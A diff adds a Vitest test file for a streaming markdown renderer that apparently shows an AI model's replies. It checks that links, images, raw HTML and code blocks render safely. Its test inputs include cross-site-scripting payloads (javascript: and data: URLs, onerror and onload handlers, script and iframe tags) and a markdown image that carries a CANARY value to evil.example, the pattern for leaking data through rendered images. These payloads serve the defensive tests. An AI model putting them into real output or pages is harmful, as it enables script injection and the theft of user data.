@@ -1,0 +1,104 @@
+import { describe, expect, test, vi } from 'vitest'
+import { safeHref } from '../links.ts'
+import { streamMarkdown } from './stream-markdown.ts'
+
+const TEXTS = { copy: 'Copy', copied: 'Copied', image: 'Image' }
+
+/** Renders in pieces of `size` characters, as a model's answer arrives. */
+function render(text: string, size = text.length) {
+  const root = document.createElement('div')
+  const stream = streamMarkdown(root, TEXTS)
+  for (let at = 0; at < text.length; at += size) stream.write(text.slice(at, at + size))
+  stream.end()
+  return root
+}
+
+describe.each([1, 3, 10_000])('[1.14] markdown in pieces of %i', (size) => {
+  test('marks, lists, headings and tables', () => {
+    const root = render('# Top\n\nSome **bold** text\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n', size)
+    expect(root.querySelector('h2.h1')?.textContent).toBe('Top')
+    expect(root.querySelector('h1')).toBeNull()
+    expect(root.querySelector('strong')?.textContent).toBe('bold')
+    expect(root.querySelectorAll('li')).toHaveLength(2)
+    expect(root.querySelector('.table table tbody td')?.textContent).toContain('1')
+  })
+
+  test.each([
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x]( javascript:alert(1))',
+    '[x](data:text/html,<script>alert(1)</script>)',
+    '[x](vbscript:msgbox)',
+    '[x](//evil.example)',
+    '[x](/relative)',
+    '![x](javascript:alert(1))',
+    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+  ])('%s leads nowhere', (text) => {
+    const root = render(`before ${text} after`, size)
+    expect(root.textContent).toContain('before')
+    expect(root.querySelectorAll('[href],[src]')).toHaveLength(0)
+  })
+
+  test.each([
+    '<img src=x onerror=alert(1)>',
+    '<script>alert(1)</script>',
+    '<svg onload=alert(1)>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<a href="javascript:alert(1)">x</a>',
+  ])('HTML %s is text', (text) => {
+    const root = render(text, size)
+    expect(root.querySelector('img,script,svg,iframe,a')).toBeNull()
+    expect(root.textContent).toContain(text.slice(0, 8))
+  })
+
+  test('[1.15] an image becomes a link with its text and fetches nothing', () => {
+    const root = render('![a chart](https://evil.example/?d=CANARY)', size)
+    expect(root.querySelector('img,[src]')).toBeNull()
+    const link = root.querySelector('a')
+    expect(link?.textContent).toBe('a chart')
+    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
+    expect(render('![](https://evil.example/a.png)', size).querySelector('a')?.textContent).toBe('Image')
+  })
+
+  test('an image inside a link does not nest links', () => {
+    const root = render('[![alt](https://evil.example/a.png)](https://shop.example)', size)
+    expect(root.querySelector('a a, img')).toBeNull()
+    expect(root.querySelector('a')?.getAttribute('href')).toBe('https://shop.example')
+  })
+
+  test('web, mail and phone links open elsewhere and tell nothing', () => {
+    const root = render('[a](https://a.example/x?y=1) [m](mailto:a@b.example) [t](tel:+49123)', size)
+    const links = [...root.querySelectorAll('a')]
+    expect(links.map((link) => link.getAttribute('href'))).toEqual([
+      'https://a.example/x?y=1',
+      'mailto:a@b.example',
+      'tel:+49123',
+    ])
+    for (const link of links) {
+      expect(link.getAttribute('target')).toBe('_blank')
+      expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow')
+    }
+  })
+
+  test('code keeps its text, takes no class from the model and copies', async () => {
+    const writeText = vi.fn(() => Promise.resolve())
+    vi.stubGlobal('navigator', { clipboard: { writeText } })
+    const root = render('```composer chat\nlet a = "<b>"\n```\n', size)
+    const code = root.querySelector('pre code')
+    expect(code?.textContent).toBe('let a = "<b>"')
+    expect(code?.className).toBe('')
+    const button = root.querySelector('button')
+    button?.click()
+    await vi.waitFor(() => expect(button?.textContent).toBe('Copied'))
+    expect(writeText).toHaveBeenCalledWith('let a = "<b>"')
+    vi.unstubAllGlobals()
+  })
+})
+
+test.each([
+  ['https://a.example', 'https://a.example'],
+  ['  http://a.example ', 'http://a.example'],
+  ['https:evil', undefined],
+  ['java\nscript:alert(1)', undefined],
+  ['\u0000javascript:alert(1)', undefined],
+])('link target %o', (value, href) => expect(safeHref(value)).toBe(href))
